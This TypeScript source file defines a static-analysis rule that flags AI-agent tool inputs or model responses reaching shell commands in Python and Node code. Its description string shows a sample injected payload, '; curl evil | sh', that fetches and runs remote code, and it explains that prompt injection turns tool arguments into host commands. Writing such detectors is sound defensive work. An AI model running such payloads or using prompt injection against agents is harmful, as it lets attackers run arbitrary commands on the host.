import type { SyntaxNode, SyntaxTree } from '../../source/syntax-tree.js';
import { importedCallee, keywordArgument, positionalArguments, pythonImportMap, type ImportMap } from '../ast/python.js';
import { objectProperty, tsArguments, tsCalleeText, tsImportMap } from '../ast/typescript.js';
import { HELPER_HOP_SENTENCE, nodeModuleBindings, helperFlowReport } from './support/common.js';
import { defineSinkRule, originSinkSide, type OriginSink, type PythonSinkSide, type TsSinkSide } from './support/sink-rule.js';
import type { ParsedModule } from './support/agent-modules.js';

const SUBPROCESS_SHELL_OPTIONAL = new Set(['subprocess.run', 'subprocess.call', 'subprocess.check_call', 'subprocess.check_output', 'subprocess.Popen']);
const ALWAYS_SHELL = new Set(['os.system', 'os.popen', 'subprocess.getoutput', 'subprocess.getstatusoutput', 'asyncio.create_subprocess_shell', 'commands.getoutput']);
/** Quoting for the shell makes interpolation safe. */
const PY_SANITIZERS = new Set(['shlex.quote', 'pipes.quote', 'shlex.join', 'quote']);
const TS_SANITIZERS = new Set(['shellEscape', 'shellescape', 'escape', 'quote', 'shellQuote.quote', 'shq']);
const NODE_SHELL_FUNCTIONS = new Set(['exec', 'execSync']);
const NODE_OPTIONAL_SHELL = new Set(['spawn', 'spawnSync', 'execFile', 'execFileSync']);

type ChildProcessBindings = { cp: ReturnType<typeof nodeModuleBindings>; promisified: Map<string, string> };

const childProcessMemo = new WeakMap<SyntaxTree, ChildProcessBindings>();

/** How the module names child_process and its functions (memoised per tree). */
function childProcessBindings(module: ParsedModule): ChildProcessBindings {
  let bindings = childProcessMemo.get(module.tree);
  if (!bindings) {
    const cp = nodeModuleBindings(module.tree.rootNode, tsImportMap(module.tree), 'child_process');
    childProcessMemo.set(module.tree, (bindings = { cp, promisified: promisifiedExec(module.tree.rootNode, cp) }));
  }
  return bindings;
}

/** A child_process call that runs its command through a shell, and the command argument. */
function tsShellSink(call: SyntaxNode, { cp, promisified }: ChildProcessBindings): OriginSink | undefined {
  if (call.type !== 'call_expression') return undefined;
  const fnName = childProcessFunction(tsCalleeText(call), cp, promisified);
  if (!fnName) return undefined;
  const args = tsArguments(call);
  if (NODE_OPTIONAL_SHELL.has(fnName)) {
    const options = args.find((arg) => arg.type === 'object');
    if (objectProperty(options, 'shell')?.text !== 'true') return undefined;
  } else if (!NODE_SHELL_FUNCTIONS.has(fnName)) return undefined;
  const command = args[0];
  if (!command) return undefined;
  const label = NODE_SHELL_FUNCTIONS.has(fnName) ? `child_process.${fnName}(...)` : `child_process.${fnName}(..., { shell: true })`;
  return { label, key: fnName, risk: `${fnName} runs the string through /bin/sh, so a prompt injection runs arbitrary commands on the host.`, args: [command] };
}

const TS_SINKS: TsSinkSide = originSinkSide({
  key: 'security/shell-injection',
  sinkText: /child_process/,
  // Promisified names (`run = promisify(exec)`) can be anything: every call of a helper is a candidate.
  helperText: /\(/,
  taint: { sanitizers: TS_SANITIZERS },
  find: (call, module) => tsShellSink(call, childProcessBindings(module)),
  helperReport: (flow) =>
    helperFlowReport(flow, { tool: flow.tool.via, param: flow.param, reaches: 'to', tail: '; that runs the string through /bin/sh, so a prompt injection runs arbitrary commands on the host.' }),
});

const PY_SHELL_TEXT = /\b(subprocess|os|asyncio|system|popen|create_subprocess_shell|getoutput)\b/;
const SHELL_RISK = 'the shell interprets ; | && $() in that text, so a prompt injection runs arbitrary commands on the host.';

/** A call that hands a command string to a shell, and the argument that carries the command. */
const isShellCallee = (qualified: string) => ALWAYS_SHELL.has(qualified) || SUBPROCESS_SHELL_OPTIONAL.has(qualified);

function pythonShellSink(call: SyntaxNode, imports: ImportMap): OriginSink | undefined {
  const callee = importedCallee(call, imports, isShellCallee);
  if (!callee) return undefined;
  let label: string;
  if (ALWAYS_SHELL.has(callee)) label = `${callee}(...)`;
  else if (SUBPROCESS_SHELL_OPTIONAL.has(callee) && keywordArgument(call, 'shell')?.text === 'True') label = `${callee}(..., shell=True)`;
  else return undefined;
  const command = keywordArgument(call, 'args') ?? keywordArgument(call, 'cmd') ?? keywordArgument(call, 'command') ?? positionalArguments(call)[0];
  return command ? { label, key: callee, risk: SHELL_RISK, args: [command] } : undefined;
}

/** The sinks of the module, and the same sinks inside a helper a tool calls (one hop, same file or another module of the agent). */
const PYTHON_SINKS: PythonSinkSide = originSinkSide({
  key: 'security/shell-injection',
  sinkText: PY_SHELL_TEXT,
  taint: { sanitizers: PY_SANITIZERS },
  find: (call, module) => pythonShellSink(call, pythonImportMap(module.tree)),
  helperReport: (flow) => helperFlowReport(flow, { tool: `${flow.tool.name} (${flow.tool.via})`, param: `'${flow.param}'`, reaches: 'to', tail: `; ${SHELL_RISK}` }),
});

/** `cp.exec`, `exec` (named import), `execAsync` (promisify(exec)) → the child_process function name. */
function childProcessFunction(callee: string, cp: ReturnType<typeof nodeModuleBindings>, promisified: Map<string, string>): string | undefined {
  const [head, member] = callee.split('.');
  if (member !== undefined && head !== undefined && cp.namespaces.has(head) && !callee.includes('.', head.length + 1)) return member;
  return cp.named.get(callee) ?? promisified.get(callee);
}

/** `const execAsync = promisify(exec)` / `util.promisify(cp.exec)`. */
function promisifiedExec(root: SyntaxNode, cp: ReturnType<typeof nodeModuleBindings>): Map<string, string> {
  const result = new Map<string, string>();
  for (const declarator of root.descendantsOfType('variable_declarator')) {
    const name = declarator.childForFieldName('name');
    const value = declarator.childForFieldName('value');
    if (name?.type !== 'identifier' || value?.type !== 'call_expression' || !/(^|\.)promisify$/.test(tsCalleeText(value))) continue;
    const inner = tsArguments(value)[0];
    const fnName = inner ? childProcessFunction(inner.text, cp, new Map()) : undefined;
    if (fnName) result.set(name.text, fnName);
  }
  return result;
}

export const shellInjectionCheck = defineSinkRule(
  {
    id: 'security/shell-injection',
    title: 'Tool input reaches a shell command',
    description:
      'A tool argument or model response is interpolated into a command that a shell parses: subprocess with shell=True, os.system, os.popen, ' +
      'asyncio.create_subprocess_shell, or Node child_process exec/execSync. The model chooses tool arguments, so text injected into its context ' +
      '(`; curl evil | sh`, `$(...)`) runs as commands on the host. ' +
      HELPER_HOP_SENTENCE,
    persona: 'secops',
    category: 'security',
    severity: 'error',
    fixability: 'structural',
    tags: ['security', 'CWE-78', 'LLM05:2025', 'ASI05', 'ASI02'],
    remediation:
      'Pass an argument list without a shell: subprocess.run(["git", "log", "--", path], shell=False) or execFile("git", ["log", "--", path]); ' +
      'validate the input against an allowlist of commands/flags, or quote it with shlex.quote when a shell is unavoidable. Run command tools in a sandbox.',
    docs: 'https://docs.python.org/3/library/subprocess.html#security-considerations',
    precision: 'high',
    securitySeverity: 9.8,
  },
  { python: PYTHON_SINKS, ts: TS_SINKS },
);
